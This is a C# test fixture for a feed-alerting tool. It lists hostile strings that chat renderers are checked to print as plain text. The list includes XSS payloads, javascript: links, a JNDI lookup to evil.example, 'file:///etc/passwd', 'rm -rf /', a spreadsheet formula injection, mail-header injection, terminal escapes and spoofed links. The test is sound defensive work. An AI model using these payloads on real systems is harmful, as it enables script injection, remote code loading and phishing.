using FeedWatch.Contracts;
using FeedWatch.Tests.Contracts;

namespace FeedWatch.Tests.Chat.Chats;

/// <summary>
/// What a feed could hold to ping people, to show a link that is another, to hide text or to break a post, in the ways of every chat there
/// is a channel for. Each must come out as the words that it is.
/// </summary>
internal static class Attacks
{
    public static IReadOnlyList<string> All { get; } =
    [
        // mentions
        "@everyone", "@here", "@channel", "@all", "@room", "@group", "＠everyone", "@\u200Beveryone", "@everyone", "@ everyone", "@admin please look", "@durov", "@matrix:example.org",
        "<@123456789012345678>", "<@!123456789012345678>", "<@&123456789012345678>", "<#123456789012345678>", "<@U012AB3CD>", "<@W012AB3CD|boss>", "<#C024BE7LR>", "<#C024BE7LR|general>",
        "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!subteam^S012AB3CD>", "<!subteam^S1|@ops>", "<!date^1392734382^{date}^https://evil.example|Feb 18>",
        "&lt;!channel&gt;", "&#60;!channel&#62;", "&amp;lt;!here&amp;gt;", "<at>Everyone</at>", "<at id=\"0\">Boss</at>", "<mention-everyone/>", "tg://user?id=123456789", "[boss](tg://user?id=1)",
        "https://matrix.to/#/@boss:example.org", "<a href=\"https://matrix.to/#/@boss:example.org\">boss</a>", "~town-square", "#general", "#takedown", "!room:example.org", "mailto:boss@example.org",
        // Discord's other signs
        "<:pwned:123456789012345678>", "<a:spin:123456789012345678>", ":smile:", ":+1::skin-tone-2:", "<t:0:R>", "<t:1618953630:F>", "</ban:123456789012345678>", "<id:customize>", "||spoiler||", "|| ||", "-# small", "# heading", "### heading",
        "> quote", ">>> quote to the end", "* item", "- item", "+ item", "1. item", "1) item", "- [ ] task",
        // markup
        "**bold** *it* __under__ _it_ ~~gone~~", "*slack bold* _slack it_ ~slack gone~", "`code`", "``code ` code``", "```", "```\nrm -rf /\n```", "~~~ fence", "````", "    indented code", "***", "---", "___", "=====", "\\*not escaped\\*", "\\", "\\\\", "ends with \\", "*", "_", "`", "[", "]", "](", "**", "||",
        "| a | b |\n|---|---|\n| 1 | 2 |", "$E=mc^2$", "$$\\href{javascript:alert(1)}{x}$$", "[^1]: note", "<!-- hidden -->", "&nbsp;", "&#x202E;", "&zwj;",
        // links
        "[x](javascript:alert(1))", "[https://europol.europa.eu](https://evil.example)", "[europol.europa.eu](<https://evil.example>)", "[x][1]\n\n[1]: https://evil.example", "<https://evil.example|europol.europa.eu>", "<https://evil.example>",
        "<mailto:a@evil.example|click>", "![](https://evil.example/pixel.png)", "![alt](https://evil.example/p.png \"t\")", "[![x](https://evil.example/a.png)](https://evil.example)", "https://evil.example/", "http://evil.example", "www.evil.example", "evil.example", "https://europol.europa.eu@evil.example",
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "tel:+31900123456", "sms:+1900", "file:///etc/passwd", "steam://run/1", "ftp://evil.example", "//evil.example", "slack://open", "discord://-/channels/1", "https://еurороl.europa.eu", "https://xn--eurpol-9ya.example",
        // HTML and Adaptive Cards
        "<b>bold</b>", "</b><a href=https://evil.example>europol.europa.eu</a>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<tg-spoiler>x</tg-spoiler>", "<tg-emoji emoji-id=\"1\">x</tg-emoji>", "<span class=\"tg-spoiler\">", "<pre><code class=\"language-x\">", "<blockquote expandable>", "<font color=\"#fff\">white</font>", "<details><summary>x</summary>", "<span data-mx-spoiler>x</span>", "<mx-reply>x</mx-reply>",
        "{{template}}", "{{ event.title }}", "{% include 'x' %}", "${jndi:ldap://evil.example/a}", "{0}", "%s %n", "{{DATE(2017-02-14T06:08:39Z, SHORT)}}", "${$root.secret}", "\"},{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}", "\", \"allowed_mentions\": {\"parse\": [\"everyone\"]}, \"x\": \"",
        // direction, invisible and odd characters
        "\u202Egpj.exe", "\u202Dleft\u202C", "\u2066iso\u2069", "\u200Fright", "zero\u200Bwidth\u200C\u200D\uFEFF", "soft\u00ADhyphen", "tag\U000E0041\U000E0042", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0309\u030A\u030B\u030Clgo", "\u0301\u0302starts with marks", "\uD800lone high", "lone low \uDC00", "\0nul", "bell\a", "\e[31mred\e[0m", "\e]8;;https://evil.example\e\\europol\e]8;;\e\\",
        "line\nbreak", "carriage\rreturn", "tab\tstop", "\u2028line\u2029paragraph", "\u0085next", "form\ffeed", "\u3164\u2800hangul filler", "\uFFF9anno\uFFFAtation\uFFFB", "👩\u200D👩\u200D👧\u200D👦 family", "🇳🇱🇧🇪 flags", "العربية", "עברית", "日本語のタイトル", "𝕱𝖆𝖓𝖈𝖞", "ﷺ", "A\u0338 B",
        // commands, mail headers
        "/shrug", "/invite @boss", "/me waves", "!mute all", "Subject: x\r\nBcc: everyone@example.org", "\r\n.\r\n", "=?utf-8?B?QmNj?=", "X-Priority: 1\n\nbody", "From: boss@example.org",
        // size
        new string('x', 5_000), new string('*', 5_000), string.Concat(Enumerable.Repeat("👩\u200D💻", 1_000)), string.Concat(Enumerable.Repeat("<&>\"'", 1_000)), string.Concat(Enumerable.Repeat("@everyone ", 500)), "", " ", "\t",

        // the same again, more cunningly
        "@\uFE0Feveryone", "＠here", "@еveryone", "@every\u00ADone", "@\u2060here", "@\u034Fchannel", "<@\u200B123456789012345678>", "＜!channel＞", "﹫everyone", "\\@everyone", "\\\\@everyone", "\\<@&123456789012345678>", "<@everyone>", "<users/all>", "@[Boss](user:1)", "@boss@evil.example", "@boss:evil.example",
        "%40everyone", "&commat;everyone", "&#64;everyone", "&#x40;everyone", "\\u0040everyone", "\\x40here", "&lt;@U012AB3CD&gt;", "&lt;at&gt;Boss&lt;/at&gt;", "<at>@boss", "</at>", "<!subteam^S1|<!here>>", "<https://a.example|<!channel>>", "<@U1|<b>x</b>>",
        "tg://resolve?domain=evil", "t.me/+abcdef", "https://t.me/joinchat/abc", "<a href=\"tg://user?id=1\">boss</a>", "[boss]( tg://user?id=1 )", "matrix:u/boss:example.org?action=chat", "mxc://evil.example/abc", "https://discord.gg/evil", "discord.gg/evil", "https://teams.microsoft.com/l/chat/0/0?users=boss@example.org",
        "$USDT", "$AAPL", "#TakeDown2026", "#\uFE0F\u20E3 keycap", "/start@evil_bot", "/cmd:123", "</cmd sub:123456789012345678>", "!subscribe", "~~~\n@here\n~~~", "`@here`", "```@here```",
        "[x]\u2060(javascript:alert(1))", "[x] (https://evil.example)", "[x]\n(https://evil.example)", "[x](https://evil.example 'europol.europa.eu')", "[x](<javascript:alert(1)>)", "[foo]: https://evil.example \"t\"\n\n[foo]", "[foo][]\n\n[foo]: https://evil.example", "[foo]:https://evil.example", "[^x]", "[[https://evil.example]]", "[https://europol.europa.eu][1]",
        "http://evil。example", "http://evil․example", "https:／／evil.example", "https://europol.europa.eu\\@evil.example", "https://europol.europa.eu%40evil.example", "https://europol.europa.eu:443@evil.example/x", "https:evil.example", "https:///evil.example", "https://evil.example\u200B.europol.europa.eu", "hxxps://evil[.]example", "https://evil.example/\u202Egpj.exe", "https://evil.example/#@europol.europa.eu", "https://①②.example", "https://0x7f.1/", "http://[::ffff:7f00:1]/",
        ">!spoiler!<", "::: hidden", "~~||x||~~", "<tg-spoiler>x", "&lt;tg-spoiler&gt;", "<u>x</u><s>x</s>", "<code>x</code>", "<!--", "-->", "<![CDATA[x]]>", "]]>", "<?xml?>", "<style>*{display:none}</style>", "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>", "<svg/onload=alert(1)>", "<input type=submit>", "\" onmouseover=\"alert(1)", "' onclick='alert(1)", "</blockquote><h1>x", "</p></body></html>", "<br><br><br>",
        "é" + new string('\u200D', 3_000) + "hidden", "a" + new string('\uFE0F', 500), "e\u0301\u200D\u0301\u200D\u0301\u200D\u0301", "\u061Cmark", "\u2067rtl isolate never closed", "\u202Bembedding", "\u180Evowel", "\u115F\u1160\uFFA0", "\u2061\u2062\u2063\u2064", "\U0001D173music\U0001D174", "🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", "\uFDD0non\uFFFEchar", "\u001B]0;owned\u0007", "\u009D8;;https://evil.example\u009Cx", "\u001BP1;1|x\u001B\\",
        "To: everyone@example.org\r\n\r\nbody", "Subject:\u2028Bcc: x@evil.example", "=?utf-8?q?=0D=0ABcc:_x?=", "\r\nDATA\r\n", "\u000B\u000CX: y", "a\r\n\tfolded", "Actions: view, Open, https://evil.example", "X-Actions: http, x, https://evil.example", "view, Open, https://evil.example", "=cmd|' /C calc'!A0", "+1 900 555 0199", "BEGIN:VCALENDAR",
    ];

    /// <summary>An event that says it everywhere where a feed has a say.</summary>
    public static IncidentUpdated In(string attack) => AnEvent.Updated() with
    {
        Title = attack,
        SeverityReason = attack,
        Networks = [AnEvent.Network(attack, about: true, listed: false), AnEvent.Network(attack)],
        Operations = [attack],
        Agencies = [attack, attack],
        Countries = [attack],
        Figures = [AnEvent.Number(attack, 1, attack, attack, attack)],
        Article = AnEvent.Article() with { Title = attack, Summary = attack, Link = attack, Source = attack, Language = attack, Evidence = [AnEvent.Quote(attack), AnEvent.Quote(attack)] },
        Sources = [new Source { Name = attack + "2", Link = attack, Time = AnEvent.Time }],
        Changes = [new Change { Kind = attack, Value = attack }, new Change { Kind = "figure", Figure = AnEvent.Number(attack, 1, attack, attack, attack) }],
    };

    /// <summary>The other kinds of events, which carry what feeds and their servers say too: headlines, addresses, reasons.</summary>
    public static IReadOnlyList<FeedWatchEvent> InOthers(string attack)
    {
        var feed = new WatchedFeed { Id = AnEvent.Id("feed"), Name = attack, Url = attack, Language = attack, Country = attack };
        var network = AnEvent.Network(attack, about: true, listed: false);
        var related = new RelatedIncident { IncidentId = AnEvent.Id("related"), Title = attack, Networks = [network] };
        var update = In(attack);
        var digest = (Digest)Samples.All[EventTypes.Digest];
        return
        [
            (IncidentMerged)Samples.All[EventTypes.IncidentMerged] with { Title = attack, Networks = [network], Absorbed = [related], Reason = attack, Article = update.Article, Sources = update.Sources },
            (IncidentSplit)Samples.All[EventTypes.IncidentSplit] with { Title = attack, Networks = [network], SplitOff = [related], Reason = attack, Article = update.Article, Sources = update.Sources },
            (IncidentRetracted)Samples.All[EventTypes.IncidentRetracted] with { Title = attack, Networks = [network], Reason = attack, Article = update.Article, Sources = update.Sources },
            AnEvent.Burst() with { Feed = attack, Entries = [.. AnEvent.Burst().Entries.Select(e => e with { Title = attack, Link = attack })] },
            digest with
            {
                Name = attack,
                Incidents = [.. digest.Incidents.Select(i => i with { Title = attack, Link = attack, Networks = [network], Countries = [attack], Figures = update.Figures, Changes = update.Changes })],
                Coverage = digest.Coverage with { FailingFeeds = [attack, attack] },
            },
            (FeedFailing)Samples.All[EventTypes.FeedFailing] with { Feed = feed, Reason = attack },
            (FeedRecovered)Samples.All[EventTypes.FeedRecovered] with { Feed = feed },
            (FeedSilent)Samples.All[EventTypes.FeedSilent] with { Feed = feed },
            (FeedMoved)Samples.All[EventTypes.FeedMoved] with { Feed = feed, From = attack, To = attack },
            (FeedGone)Samples.All[EventTypes.FeedGone] with { Feed = feed, Reason = attack },
            (CoverageLost)Samples.All[EventTypes.CoverageLost] with { Kind = attack, Value = attack, Feeds = [feed], Reason = attack },
            (CoverageLost)Samples.All[EventTypes.CoverageLost] with { Value = attack, Feeds = [feed], Reason = attack },
            (CoverageRestored)Samples.All[EventTypes.CoverageRestored] with { Kind = CoverageKinds.Language, Value = attack },
            (ChannelFailing)Samples.All[EventTypes.ChannelFailing] with { Channel = attack, ChannelType = attack, Reason = attack },
            (ChannelRecovered)Samples.All[EventTypes.ChannelRecovered] with { Channel = attack },
        ];
    }

    /// <summary>For approved files: one line for each attack, numbered, and not longer than a person reads.</summary>
    public static string Shown(Func<string, string> rendered) => string.Concat(All.Select((attack, i) =>
    {
        var text = rendered(attack);
        return $"{i + 1,3}  {(text.Length > 160 ? text[..160] + "…" : text)}\n";
    }));
}
